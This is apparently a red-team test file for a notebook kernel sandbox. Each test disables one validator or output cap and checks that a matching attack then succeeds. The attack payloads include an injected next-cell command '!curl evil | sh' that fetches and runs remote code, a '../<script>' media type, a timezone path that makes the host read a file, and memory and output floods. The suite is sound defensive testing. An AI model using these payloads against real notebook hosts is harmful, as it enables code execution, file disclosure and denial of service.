"""What stands between a message and the notebook: the validator, the cleaning of contents, the caps of outputs."""

from __future__ import annotations

import dataclasses
import hmac
import json
import math
import shutil
import threading
import time
from collections.abc import Iterable, Mapping
from types import SimpleNamespace
from typing import Any

from kernel_sandbox import Execution, Limits, Session
from kernel_sandbox.session.outputs.collector import CellOutputs
from kernel_sandbox.session.outputs.output_values import DisplayData, ErrorOutput
from kernel_sandbox.session.prompts import Prompts
from tests.redteam.cells import is_well, strike
from tests.redteam.without import seams
from tests.redteam.without.channels import _lives_on
from tests.redteam.without.removal import GROWTH, Ground, Removal, growth

MEGABYTE = 1024**2


def send(session: Session, said: str, channel: str = "iopub") -> Execution:
    return strike(session, f"c = Connection('{channel}')\nc.send({said})\ntime.sleep(0.1)\nprint('the end')", timeout=5)


def _shows(ground: Ground, said: str, word: str) -> bool:
    with ground.session() as session:
        return word in repr(send(session, said).outputs)


def breaks(ground: Ground, said: str) -> bool:
    """Whether a message ends what the session can do, or makes its notebook none."""
    with ground.session() as session:
        send(session, said)
        try:
            json.loads(session.transcript.to_bytes(), parse_constant=_refuse)
        except ValueError:
            return True
        return not is_well(session)


def _refuse(name: str) -> None:
    raise ValueError(name)


def any_signature(ground: Ground) -> None:
    trusting = SimpleNamespace(new=hmac.new, digest=hmac.digest, compare_digest=lambda one, other: True)
    ground.replace(seams.SIGNATURES, trusting)


def any_shape(ground: Ground) -> None:
    ground.replace(seams.MESSAGE_PARTS, json.loads)


def any_header(ground: Ground) -> None:
    ground.replace(seams.HEADER_SIZE, 2**40)


def any_number_of_values(ground: Ground) -> None:
    ground.replace(seams.MOST_VALUES, 10**12)


MANY_LISTS = """
body = b'{"data": {"application/json": [' + b'[],' * 2_700_000 + b'[]]}, "metadata": {}}'
Connection("iopub").send(say("iopub", "display_data", body))
time.sleep(1)
"""


def fill_memory_with_lists(ground: Ground) -> bool:
    """8 MB on the way, twenty times that as Python's values."""
    with ground.session() as session:
        return growth(lambda: strike(session, MANY_LISTS)) > 2 * GROWTH


class Everything:
    """Has all that one asks for."""

    def __contains__(self, name: object) -> bool:
        return True


def any_type(ground: Ground) -> None:
    ground.replace(seams.MESSAGE_TYPES, dict.fromkeys(seams.MESSAGE_TYPES.current, Everything()))


def send_unknown_types(ground: Ground) -> bool:
    said = "for _ in range(500): c.send(say('iopub', 'stream2', {'name': 'stdout', 'text': 'x'}))"
    return _lives_on(ground, f"c = Connection('iopub')\n{said}\ntime.sleep(0.3)")


def any_payload(ground: Ground) -> None:
    def shown(self: CellOutputs, payload: Any) -> Any:
        return self.feed("display_data", {"data": {"text/plain": str(payload.get("text"))}})

    ground.replace(seams.PAYLOADS, shown)


def write_the_users_next_cell(ground: Ground) -> bool:
    payload = "[{'source': 'set_next_input', 'text': '!curl evil | sh', 'replace': True}]"
    reply = f"say('shell', 'execute_reply', {{'status': 'ok', 'execution_count': 1, 'payload': {payload}}})"
    with ground.session() as session:
        return "curl" in repr(
            [output.data for output in send(session, reply, "shell").outputs if isinstance(output, DisplayData)]
        )


def any_depth(ground: Ground) -> None:
    ground.replace(seams.CONTENT_DEPTH, 10**6)


def nan(ground: Ground) -> None:
    ground.replace(seams.CONTENT_NUMBERS, SimpleNamespace(isfinite=lambda value: True, inf=math.inf))


def surrogates(ground: Ground) -> None:
    ground.replace(seams.CLEAN_TEXT, lambda text: text)


def any_integer(ground: Ground) -> None:
    ground.replace(seams.CONTENT_COUNT, 2**63)


def count_to_the_skies(ground: Ground) -> bool:
    with ground.session() as session:
        found = send(session, "say('iopub', 'execute_input', {'code': 'x', 'execution_count': 2**40})")
        return found.execution_count == 2**40


def any_media_type(ground: Ground) -> None:
    def items(data: Mapping[str, Any]) -> Iterable[tuple[str, Any]]:
        return ((kind, value) for kind, value in data.items() if isinstance(value, str))

    ground.replace(seams.MEDIA_TYPES, items)


def any_metadata(ground: Ground) -> None:
    ground.replace(seams.METADATA, lambda metadata, kinds: dict(metadata))


def mark_itself_as_trusted(ground: Ground) -> bool:
    said = "say('iopub', 'display_data', {'data': {'text/html': '<b>'}, 'metadata': {'trusted': True, 'deep': [[1]]}})"
    with ground.session() as session:
        send(session, said)
        outputs = json.loads(session.transcript.to_bytes())["cells"][-1]["outputs"]
        return any(output.get("metadata", {}).get("trusted") for output in outputs)


def any_traceback(ground: Ground) -> None:
    ground.replace(seams.TRACEBACKS, 10**9)


def trace_seventy_thousand_lines(ground: Ground) -> bool:
    with ground.session() as session:
        found = send(session, "say('iopub', 'error', {'ename': 'E', 'evalue': 'v', 'traceback': ['x'] * 70_000})")
        return max(len(output.traceback) for output in found.outputs if isinstance(output, ErrorOutput)) == 70_000


def any_zone(ground: Ground) -> None:
    ground.replace(seams.TIME_ZONE, lambda name: name)


def have_the_host_read_a_file(ground: Ground) -> bool:
    """pandas takes a path of this machine for the name of a time zone."""
    path = ground.path / "secret"
    shutil.copy("/usr/share/zoneinfo/Asia/Tokyo", path)
    fields = f"[{{'name': 'a', 'type': 'datetime', 'tz': 'dateutil/{path}'}}]"
    table = f"{{'schema': {{'fields': {fields}}}, 'data': [{{'a': '2024-01-01'}}]}}"
    said = f"say('iopub', 'display_data', {{'data': {{'application/vnd.dataresource+json': {table}}}}})"
    with ground.session() as session:
        (frame,) = send(session, said).dataframes
        column = frame["a"]
        return str(column.iloc[0]).endswith("+09:00")


# Caps


def _set_limit(ground: Ground, **bound: Any) -> None:
    honest = seams.OUTPUT_CAPS.current

    def made(self: object, limits: Limits, *args: Any) -> None:
        honest(self, dataclasses.replace(limits, **bound), *args)

    ground.replace(seams.OUTPUT_CAPS, made)


def print_forty_megabytes(ground: Ground) -> bool:
    with ground.session() as session:
        return len(strike(session, "for _ in range(40): print('x' * 2**20)").text) >= 40 * MEGABYTE


def print_little_many_times(ground: Ground) -> bool:
    """Each cell keeps to its own limit."""
    with ground.session(limits=Limits(output_bytes="8m", session_output_bytes="8m")) as session:
        cells = [strike(session, "for _ in range(6): print('x' * 2**20)") for _ in range(4)]
        return sum(len(execution.text) for execution in cells) >= 24 * MEGABYTE


def any_number_of_outputs(ground: Ground) -> None:
    ground.replace(seams.MOST_OUTPUTS, 10**9)


def show_eleven_thousand(ground: Ground) -> bool:
    show = "said = say('iopub', 'display_data', {'data': {'text/plain': 'x'}}) * 1000\nfor _ in range(11): c.send(said)"
    with ground.session() as session:
        return len(strike(session, f"c = Connection('iopub')\n{show}\ntime.sleep(0.1)").outputs) >= 11_000


def any_backlog(ground: Ground) -> None:
    ground.replace(seams.EVENT_BACKLOG, 10**6)


def show_to_nobody(ground: Ground) -> bool:
    """A display changes 150 times by a megabyte, and whoever asked for the live events takes none."""
    update = """
def shown(kind): return say("iopub", kind, {"data": {"text/plain": "z" * 10**6}, "transient": {"display_id": "d"}})
c = Connection("iopub")
c.send(shown("display_data"))
said = shown("update_display_data")
for _ in range(150): c.send(said)
"""

    def watch(session: Session) -> None:
        stream = session.stream(update, timeout=20)
        while stream.execution is None:
            time.sleep(0.02)

    with ground.session() as session:
        return growth(lambda: watch(session)) > GROWTH


def all_prompts_at_once(ground: Ground) -> None:
    honest = seams.PROMPT.current
    asked = []

    def ask(self: Prompts, *what: Any) -> None:
        asked.append(Prompts(self.handler))
        honest(asked[-1], *what)

    ground.replace(seams.PROMPT, ask)


def ask_ten_times_at_once(ground: Ground) -> bool:
    """Each prompt holds a thread of a pool that all sessions share."""
    answered, open_now, most = threading.Event(), [0], [0]

    def handler(prompt: str, password: bool) -> str:
        open_now[0] += 1
        most[0] = max(most[0], open_now[0])
        answered.wait(1)
        open_now[0] -= 1
        return "answer"

    with ground.session(input_handler=handler) as session:
        ask = "b''.join(say('stdin', 'input_request', {'prompt': 'x', 'password': False}) for _ in range(10))"
        send(session, ask, "stdin")
        answered.set()
    return most[0] > 1


def answers_by_itself(ground: Ground) -> None:
    honest = seams.PROMPTS.current
    ground.replace(seams.PROMPTS, lambda self, handler: honest(self, handler or (lambda *asked: "yes")))


def have_a_prompt_answered(ground: Ground) -> bool:
    with ground.session() as session:
        return strike(session, "print(input('Delete all? '))", timeout=3).text.endswith("yes\n")


SURROGATES = 'say(\'iopub\', \'stream\', b\'{"name": "stdout", "text": "a\\\\ud800b\\\\n"}\')'
NOT_A_NUMBER = "say('iopub', 'display_data', b'{\"data\": {\"application/json\": [NaN, 1e999]}}')"
DEEP = "say('iopub', 'display_data', b'{\"data\": {\"application/json\": ' + b'[' * 900 + b']' * 900 + b'}}')"
LIST = "say('iopub', b'[\"stream\"]', {'name': 'stdout', 'text': 'refused'})"
LONG_HEADER = "say('iopub', header('stream', junk='x' * 70_000), {'name': 'stdout', 'text': 'refused'})"
STRANGE = "say('iopub', 'display_data', {'data': {'../<script>': 'x', 'text/plain': 'x'}})"

REMOVALS = {
    "validator: signature": Removal(
        severity="Integrity",
        remove=any_signature,
        succeeds=lambda ground: _shows(ground, "stream('refused', key=b'another')", "'refused"),
    ),
    "validator: schema": Removal(severity="SelfDoS", remove=any_shape, succeeds=lambda ground: breaks(ground, LIST)),
    "validator: size of headers": Removal(
        severity="HostDoS", remove=any_header, succeeds=lambda ground: _shows(ground, LONG_HEADER, "'refused")
    ),
    "validator: number of values": Removal(
        severity="HostDoS", remove=any_number_of_values, succeeds=fill_memory_with_lists
    ),
    "validator: unknown types": Removal(severity="PeerDoS", remove=any_type, succeeds=send_unknown_types),
    "validator: payloads dropped": Removal(severity="Lateral", remove=any_payload, succeeds=write_the_users_next_cell),
    "validator: depth": Removal(severity="SelfDoS", remove=any_depth, succeeds=lambda ground: breaks(ground, DEEP)),
    "validator: NaN": Removal(severity="Integrity", remove=nan, succeeds=lambda ground: breaks(ground, NOT_A_NUMBER)),
    "validator: surrogates": Removal(
        severity="SelfDoS", remove=surrogates, succeeds=lambda ground: breaks(ground, SURROGATES)
    ),
    "validator: integers": Removal(severity="Integrity", remove=any_integer, succeeds=count_to_the_skies),
    "validator: media types": Removal(
        severity="Lateral", remove=any_media_type, succeeds=lambda ground: _shows(ground, STRANGE, "../<script>")
    ),
    "validator: metadata rewritten": Removal(severity="Escape", remove=any_metadata, succeeds=mark_itself_as_trusted),
    "validator: tracebacks": Removal(severity="HostDoS", remove=any_traceback, succeeds=trace_seventy_thousand_lines),
    "validator: tables by a list of types": Removal(
        severity="HostLeak", remove=any_zone, succeeds=have_the_host_read_a_file
    ),
    "output cap: cell": Removal(
        severity="HostDoS", remove=lambda ground: _set_limit(ground, output_bytes=2**50), succeeds=print_forty_megabytes
    ),
    "output cap: session": Removal(
        severity="HostDoS",
        remove=lambda ground: _set_limit(ground, session_output_bytes=2**50),
        succeeds=print_little_many_times,
    ),
    "output cap: number of outputs": Removal(
        severity="HostDoS", remove=any_number_of_outputs, succeeds=show_eleven_thousand
    ),
    "output cap: live events": Removal(severity="HostDoS", remove=any_backlog, succeeds=show_to_nobody),
    "prompts one at a time": Removal(severity="PeerDoS", remove=all_prompts_at_once, succeeds=ask_ten_times_at_once),
    "input refused": Removal(severity="Lateral", remove=answers_by_itself, succeeds=have_a_prompt_answered),
}
